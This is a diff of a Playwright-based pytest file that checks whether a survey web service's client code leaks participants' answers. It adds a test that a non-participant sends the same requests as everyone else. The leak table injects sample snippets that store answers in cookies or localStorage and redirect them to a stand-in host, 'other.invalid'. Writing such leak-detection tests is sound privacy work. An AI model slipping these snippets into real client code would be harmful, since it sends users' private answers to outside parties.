@@ -8,12 +8,13 @@ from __future__ import annotations
 import base64
 import hashlib
 from collections.abc import Callable
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
 from playwright.sync_api import Browser, Page, Route
 
-from campaign.service.web.walking import opened_by, running
+from campaign.service.web.walking import at_offer, leaving, opened_by, running
 from campaign.service.web.wire import Ears, Wire, beyond
 from confide.campaign.service.web.page import STATIC
 
@@ -45,8 +46,8 @@ LEAKS = {  # name: (what stands in the program, what stands there instead, what 
                              "/mine?yes"),
     "a cookie": (DRAWN, f"  document.cookie = `seen=${{typed().answer}}`;\n{DRAWN}", "seen=yes"),
     "for another time": (DRAWN, f'  localStorage.setItem("seen", typed().answer);\n{DRAWN}', "[['seen', 'yes']]"),
-    "with what is kept": ("inOrder(instructions), row }, place", "inOrder(instructions), row: { ...row, seen: given.answer }"
-                          " }, place", "kept: [{"),
+    "with what is kept": ("inOrder(instructions), row }, place",
+                          "inOrder(instructions), row: { ...row, seen: given.answer } }, place", "kept: [{"),
     "elsewhere": (SENDS, f"  location = `https://other.invalid/${{typed().answer}}`;\n  await 0;\n{SENDS}",
                   "sent: GET https://other.invalid/yes"),
 }
@@ -120,3 +121,28 @@ def test_a_program_that_tells_is_told_on(leaks: list[str], chromium: Browser, tm
             _, found = beyond(page, wire, base, yes)
             assert any(told in line for line in found), (leak, found)
             context.close()
+
+
+@pytest.mark.slow
+def test_who_takes_no_part_shows_when_she_hands_in(chromium: Browser, tmp_path: Path) -> None:
+    """Whose privacy is worth more than the threshold draws nothing; her device asks the service no less before."""
+    ears = Ears()
+    with running(tmp_path, ears=ears.before) as (base, parts):
+        asked = []
+        for worth, (_, code) in zip(("0.01", "1000", ""), parts.invitations.invite(
+                opened_by(parts, "bits-unknown-costs"), [0, 1, 2]), strict=True):
+            page = at_offer(chromium, base, code)
+            (cookie,) = page.context.cookies()
+            page.wait_for_load_state("networkidle")
+            ears.heard.clear()
+            if worth:  # else nothing at all
+                yes(page)
+                page.locator("#field-worth").fill(worth)
+            page.get_by_role("button", name="Draw what leaves this device").click()
+            assert (leaving(page) in ("yes", "no")) is (worth == "0.01")
+            page.wait_for_load_state("networkidle")
+            asked.append([replace(each, headers=tuple((name, value.replace(cookie["value"], "")) for name, value
+                                                      in each.headers)) for each in ears.heard])
+            page.context.close()
+        assert [str(each) for each in asked[0]] == ["GET /api/v1/mine"]
+        assert asked[1] == asked[2] == asked[0]
